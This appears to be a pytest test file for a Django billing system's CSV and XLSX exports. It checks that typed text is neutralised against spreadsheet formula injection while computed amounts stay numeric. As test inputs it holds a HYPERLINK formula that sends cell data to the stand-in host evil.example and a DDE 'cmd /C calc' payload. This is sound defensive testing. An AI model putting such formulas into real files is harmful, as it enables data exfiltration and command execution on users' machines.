"""KMD's billing export: text a customer or account manager typed never reaches a spreadsheet as a formula,
and the amounts our code computes stay numbers."""

import csv
import datetime
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from billing import services as billing
from billing.models import BillingRun, Invoice, InvoiceLine
from tests.billing.builders import package_fee

D = Decimal
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Aarhus")'


def export(client, user, run) -> list[dict]:
    client.force_login(user)
    response = client.get(reverse("billing:run_export", args=[run.pk]))
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_formulas_typed_by_the_customer_and_the_account_manager_come_out_as_text(cast, order_in, client):
    cast.customer_a.name = HYPERLINK
    cast.customer_a.invoice_reference_person = "+45 Bente, Lønkontoret"
    cast.customer_a.save()
    order = order_in("active", requisition_number="@SUM(1+1)*cmd|' /C calc'!A0")
    billing.consulting_record(
        order=order, actor=cast.am_a, on=order.activated_on, hours=D("1"), description="=1+1 sparring"
    )
    run = billing.billing_run(period=timezone.localdate().replace(day=1), force=True)

    rows = export(client, cast.am_a, run)

    assert rows
    for row in rows:
        assert row["Kunde"] == "'" + HYPERLINK
        assert row["Referenceperson"] == "'+45 Bente, Lønkontoret"
        assert row["Rekvisitionsnummer"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert not row["Beskrivelse"].startswith(("=", "+", "-", "@"))
    assert any("=1+1 sparring" in row["Beskrivelse"] for row in rows)  # inside the text, where it cannot run


def test_every_text_column_is_neutralised_whatever_it_starts_with(cast, order_in, client):
    order = order_in("draft")
    run = BillingRun.objects.create(period=datetime.date(2030, 1, 1))
    typed = {
        "Faktura": "-2+3",
        "Kunde": "=1+1",
        "CVR-nummer": "+4",
        "EAN-nummer": "@SUM(A1)",
        "Referenceperson": "\t=1+1",
        "Rekvisitionsnummer": "\r=1+1",
        "Type": "=kind",
        "Beskrivelse": " =1+1",
    }
    invoice = Invoice.objects.create(
        run=run,
        customer=cast.customer_a,
        period=run.period,
        number=typed["Faktura"],
        customer_name=typed["Kunde"],
        cvr=typed["CVR-nummer"],
        ean=typed["EAN-nummer"],
        reference_person=typed["Referenceperson"],
        total_excl_vat=D("1.00"),
        vat=D("0.25"),
        total_incl_vat=D("1.25"),
    )
    InvoiceLine.objects.create(
        invoice=invoice,
        source_key="test:1",
        kind=typed["Type"],
        order=order,
        requisition_number=typed["Rekvisitionsnummer"],
        description_da=typed["Beskrivelse"],
        description_en="x",
        amount=D("1.00"),
    )

    (row,) = export(client, cast.support, run)

    for column, value in typed.items():
        assert row[column] == "'" + value, column
    assert row["Bestilling"] == order.reference and row["Beløb ekskl. moms"] == "1,00"


def test_credit_amounts_stay_negative_numbers_while_a_typed_minus_is_neutralised(cast, order_in, client):
    order = order_in("draft", requisition_number="-5")
    fee = package_fee(order, start=datetime.date(2026, 1, 1), customer=cast.customer_a)
    billing.billing_run(period=datetime.date(2026, 3, 1))
    fee.ends_on = datetime.date(2026, 2, 15)  # ended retroactively: the next run credits February and March
    fee.save()
    run = billing.billing_run(period=datetime.date(2026, 4, 1))

    rows = export(client, cast.am_a, run)

    assert sorted(row["Beløb ekskl. moms"] for row in rows) == ["-1550,00", "-3100,00"]
    assert all(row["Rekvisitionsnummer"] == "'-5" for row in rows)
    assert all(row["Beskrivelse"].startswith("Kreditering: OA-") for row in rows)
    assert {row["Kunde"] for row in rows} == {"Aarhus Kommune"}


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+45 12 34 56 78", "'+45 12 34 56 78"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # Blanks first do not make it safe: LibreOffice's "trim spaces" import strips them, then runs it.
        (" =1+1", "' =1+1"),
        ("\u00a0\n=1+1", "'\u00a0\n=1+1"),
        ("REK-2026-17", "REK-2026-17"),
        ("A=B", "A=B"),
        ("Ærø Kommune", "Ærø Kommune"),
        ("", ""),
    ],
)
def test_one_text_cell(typed, written):
    from core.exports import spreadsheet_text

    assert spreadsheet_text(typed) == written


def test_numbers_are_written_by_the_writer_and_never_prefixed():
    from core.exports import spreadsheet_cell

    assert spreadsheet_cell(D("-120.50")) == "-120,50"
    assert spreadsheet_cell(D("1250.00")) == "1250,00"
    assert spreadsheet_cell(3) == "3"
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell("-120,50") == "'-120,50"  # the same characters, typed: text, so neutralised
    with pytest.raises(TypeError):
        spreadsheet_cell(1.5)


def test_no_export_writes_csv_except_through_the_shared_writer():
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if not {".venv", "node_modules", "tests", "migrations"} & set(path.relative_to(root).parts)
        and path.relative_to(root).as_posix() != "core/exports.py"
        and any(call in path.read_text(encoding="utf-8") for call in ("csv.writer(", "csv.DictWriter(", "openpyxl"))
    ]
    assert offenders == []


def xlsx(headings, rows):
    from openpyxl import load_workbook

    from core.exports import xlsx_download

    return load_workbook(io.BytesIO(xlsx_download("x.xlsx", "Ark", headings, rows).content)).active


def test_an_xlsx_cell_is_a_date_money_a_number_and_typed_text_inert_text():
    sheet = xlsx(
        ["Dag", "Beløb", "Antal", "Tekst", "Tom"],
        [[datetime.date(2027, 1, 31), D("-1250.50"), 3, "=1+1", None]],
    )
    day, amount, count, text, empty = sheet[2]
    assert day.value == datetime.datetime(2027, 1, 31) and day.is_date and day.number_format == "dd.mm.yyyy"
    assert amount.value == -1250.5 and amount.number_format == "#,##0.00"
    assert count.value == 3 and count.data_type == "n"
    assert text.value == "'=1+1" and text.data_type == "s"
    assert empty.value is None
    with pytest.raises(TypeError):
        xlsx(["Timer"], [[1.5]])


@pytest.mark.parametrize(("length", "width"), [(1, 8), (7, 8), (8, 9), (58, 59), (59, 60), (60, 60), (500, 60)])
def test_a_column_is_as_wide_as_its_longest_value_between_8_and_60(length, width):
    sheet = xlsx(["A"], [["x" * length]])
    assert sheet.column_dimensions["A"].width == width


def test_a_heading_keeps_room_for_its_filter_button_and_the_header_stays_in_sight():
    sheet = xlsx(["Rekvisitionsnummer", "B"], [["R-1", "b"], ["R-2", "b"]])
    assert sheet.column_dimensions["A"].width == len("Rekvisitionsnummer") + 3
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B3"


def test_a_time_in_the_csv_is_copenhagens_to_the_minute():
    from core.exports import spreadsheet_cell

    assert spreadsheet_cell(datetime.datetime(2026, 7, 1, 22, 30, 59, tzinfo=datetime.UTC)) == "2026-07-02 00:30"
    assert spreadsheet_cell(datetime.date(2026, 7, 1)) == "2026-07-01"


@pytest.mark.parametrize("url", ["ordering:order_list_export", "billing:invoice_list_export"])
def test_a_list_exports_as_csv_or_xlsx_and_any_other_format_is_404(cast, client, url):
    client.force_login(cast.am_a)
    answers = {fmt: client.get(reverse(url, args=[fmt])) for fmt in ("csv", "xlsx", "pdf", "CSV")}
    assert answers["csv"].status_code == 200 and answers["csv"]["Content-Type"].startswith("text/csv")
    assert answers["xlsx"].status_code == 200 and "spreadsheetml" in answers["xlsx"]["Content-Type"]
    assert answers["pdf"].status_code == 404 and answers["CSV"].status_code == 404
    today = timezone.localdate().isoformat()
    assert f"-{today}.csv" in answers["csv"]["Content-Disposition"]
    assert f"-{today}.xlsx" in answers["xlsx"]["Content-Disposition"]
